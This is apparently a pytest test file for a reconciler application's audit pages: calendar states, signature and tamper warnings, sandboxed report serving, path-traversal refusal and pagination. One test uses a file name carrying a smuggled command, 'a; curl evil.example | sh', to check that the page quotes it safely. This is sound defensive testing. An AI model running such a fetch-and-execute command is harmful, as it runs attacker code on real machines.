"""Pages of audits: what is told first, what a month shows, and what a report may do."""

from __future__ import annotations

import hashlib
import re
from collections.abc import Iterator
from dataclasses import replace
from http import HTTPStatus
from pathlib import Path

import pytest

from reconciler.clock import ManualClock
from reconciler.web.audits.check import WAITING, AuditCheck
from reconciler.web.audits.shelf import AuditShelf
from reconciler.web.services import WebServices
from tests.polling import eventually
from tests.unit.web.audit_cases import DAY_MS, START_MS, altered, check, folder_with, known_shelf, shelf_of, statement
from tests.unit.web.console_world import asked, page_of, services_of, settings_of

REPORT = "<h1>Report</h1>"
SIGNED = statement(report_sha256=hashlib.sha256(REPORT.encode()).hexdigest())


def services_with(folder: Path, audits: AuditShelf | None) -> WebServices:
    clock = ManualClock(START_MS + 6 * DAY_MS)
    settings = settings_of(folder, RECONCILER_ENVIRONMENT="production")
    return replace(services_of(settings, clock=clock), audits=audits)


@pytest.fixture(scope="module")
def services(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebServices]:
    """A clean day, two violations, none, an altered one, an unsigned one, none: of the 20th to the 25th."""
    folder = tmp_path_factory.mktemp("audits")
    audits = {
        "2026-11-20": check(SIGNED),
        "2026-11-21": check(statement(day=1, verdict="violations", violations=2)),
        "2026-11-23": altered(statement(day=3)),
        "2026-11-24": check(
            statement(day=4, signature_holds=False, signed_by=None, sequence=-1),
            verdict="no answer",
            no_answer=["a.json: it says that it is not signed, so nothing vouches for it"],
        ),
    }
    found = services_with(folder, known_shelf(folder, audits))
    yield found
    found.connections.close()


def sentence_in(page: str) -> str:
    found = re.search(r'<h2 id="sentence">(.*?)</h2>', page, re.DOTALL)
    assert found
    return re.sub(r"<[^>]*>", "", found[1])


def test_what_is_wrong_is_not_in_the_first_sentence(services: WebServices) -> None:
    page = page_of(services, "/audits")
    assert sentence_in(page) == (
        "The last day that is audited and verified is 2026-11-21; audits that are not as they were signed: 1; "
        "violations: 2, in 1 audits; audits that nothing vouches for: 1; days without a statement: 1."
    )
    assert 'class="verdict bad"' in page
    assert "hx-get" not in page, "it asks again though nothing is waited for"


def test_a_month_shows_each_day_with_its_state_in_words(services: WebServices) -> None:
    page = page_of(services, "/audits?month=2026-11")
    table = page.split('<table class="calendar">')[1].split("</table>")[0]
    cells = re.findall(r"<td.*?</td>", table, re.DOTALL)
    told = {}
    for cell in cells:
        if day := re.search(r'datetime="([\d-]+)"', cell):
            told[day[1]] = re.sub(r"\s+", " ", re.sub(r"<[^>]*>", " ", cell)).strip()
    assert len(told) == 30
    assert {day: told[f"2026-11-{day}"] for day in ("19", "20", "21", "22", "23", "24", "25")} == {
        "19": "19 not due",
        "20": "20 ✓ clean",
        "21": "21 ▲ violations",
        "22": "22 □ no statement",
        "23": "23 ✕ altered",
        "24": "24 ○ not verified",
        "25": "25 not due",
    }
    assert "/audits/2026-11-23" in table
    other = page_of(services, "/audits?month=2026-12")
    assert other.count("not due") == 31


@pytest.mark.parametrize(
    "query", ["month=2026-13", "month=9999-12", "month=11", "month=%00", "page=0", "page=2", "page=x"]
)
def test_a_month_or_a_page_that_there_is_not_is_refused(services: WebServices, query: str) -> None:
    assert asked(services, f"/audits?{query}").status is HTTPStatus.UNPROCESSABLE_ENTITY


def test_who_signed_and_what_was_altered_is_not_on_the_page_of_an_audit(services: WebServices) -> None:
    page = page_of(services, "/audits/2026-11-23")
    assert "do not rely on this audit" in page
    assert "altered: its SHA-256 is not the signed one" in page
    assert "result.json" in page
    assert "statement verify" in page
    unsigned = page_of(services, "/audits/2026-11-24")
    assert "it says that it is not signed" in unsigned
    assert '<td class="number">-' not in unsigned
    assert "Nobody whose key is set here" in unsigned


def test_a_report_runs_a_script_or_is_shown_though_nobody_vouches_for_it(services: WebServices) -> None:
    answer = asked(services, "/audits/2026-11-20/report")
    assert (answer.status, answer.body.decode()) == (HTTPStatus.OK, REPORT)
    assert answer.headers["Referrer-Policy"] == "no-referrer"
    policy = answer.headers["Content-Security-Policy"].split("; ")
    assert policy[:2] == ["sandbox", "default-src 'none'"]
    assert not [part for part in policy if part.startswith("script-src") or "allow-" in part]
    assert "/audits/2026-11-20/report" in page_of(services, "/audits/2026-11-20")
    for name in ("2026-11-21", "2026-11-23", "2026-11-24", "none"):  # of the first the digest is another one
        assert asked(services, f"/audits/{name}/report").status is HTTPStatus.NOT_FOUND
    assert "/report" not in page_of(services, "/audits/2026-11-23")


@pytest.mark.parametrize("name", ["none", "..", ".", "auditor.pem.pub", "%2e%2e"])
def test_a_name_leads_out_of_the_folder(services: WebServices, name: str) -> None:
    assert asked(services, f"/audits/{name}").status is HTTPStatus.NOT_FOUND


def test_a_name_acts_in_the_shell_of_who_pastes_the_command_or_in_the_page(tmp_path: Path) -> None:
    names = ["a; curl evil.example | sh", "a\nb", "latest"]
    shelf = known_shelf(tmp_path, {name: check(statement()) for name in names[:2]})
    (Path(shelf.folder) / "latest").symlink_to("x")
    services = services_with(tmp_path, shelf)
    with services.connections:
        page = page_of(services, "/audits/a%3B%20curl%20evil.example%20%7C%20sh")
        assert f"verify &#39;{shelf.folder}/{names[0]}&#39; --public-key" in page
        assert "<pre" not in page_of(services, "/audits/a%0Ab")


def test_a_link_to_the_newest_audit_calls_a_person(tmp_path: Path) -> None:
    shelf = known_shelf(tmp_path, {"2026-11-20": check(statement(day=3))})
    (Path(shelf.folder) / "latest").symlink_to("2026-11-20")
    fresh = shelf_of(Path(shelf.folder), tmp_path / "auditor.pem.pub", lambda _name: check(statement(day=3)))
    services = services_with(tmp_path, fresh)
    with services.connections:
        eventually(
            lambda: "verified is 2026-11-23" in sentence_in(page_of(services, "/audits")),
            within_seconds=60,
            message="the audit is verified",
        )
        assert "nothing vouches" not in sentence_in(page_of(services, "/audits"))
        assert "is a symbolic link" in page_of(services, "/audits")


def test_a_page_waits_for_what_is_being_verified(tmp_path: Path) -> None:
    folder, key = folder_with(tmp_path, "2026-11-20")

    def never(_name: str) -> AuditCheck:
        return WAITING

    services = services_with(tmp_path, shelf_of(folder, key, never))
    with services.connections:
        page = page_of(services, "/audits")
        assert "being verified: 1" in sentence_in(page)
        assert 'hx-trigger="every 3s"' in page
        assert "<main" not in page_of(services, "/audits?part=now")
        one = page_of(services, "/audits/2026-11-20")
        assert "It is being verified" in one
        assert 'hx-get="/reconciler/audits/2026-11-20?part=now"' in one


def test_a_folder_that_is_not_set_missing_or_empty_is_a_trouble_without_a_remedy(tmp_path: Path) -> None:
    folder, key = folder_with(tmp_path)
    unset = services_with(tmp_path, None)
    with unset.connections:
        assert "audits_public_key" in page_of(unset, "/audits")
        assert asked(unset, "/audits/x").status is HTTPStatus.NOT_FOUND
        assert asked(unset, "/api/v1/audits").status is HTTPStatus.NOT_FOUND
        missing = replace(unset, audits=shelf_of(tmp_path / "gone", key, lambda _name: WAITING))
        assert "No such file or directory" in page_of(missing, "/audits")
        for address in ("/audits/x", "/audits/x/report", "/api/v1/audits", "/api/v1/audits/x"):
            assert asked(missing, address).status is HTTPStatus.SERVICE_UNAVAILABLE
        folder.mkdir()
        empty = replace(unset, audits=shelf_of(folder, key, lambda _name: WAITING))
        assert "There is no audit in" in page_of(empty, "/audits")


def test_many_audits_are_one_page_or_are_lost_between_two(tmp_path: Path) -> None:
    names = [f"{number:03}" for number in range(120)]
    shelf = known_shelf(tmp_path, {name: check(statement()) for name in names})
    services = services_with(tmp_path, shelf)
    with services.connections:
        seen = []
        for number in (1, 2, 3):
            page = page_of(services, f"/audits?page={number}")
            seen += re.findall(r'<th scope="row" class="name"><a href="/reconciler/audits/(\d+)">', page)
    assert seen == sorted(names, reverse=True)
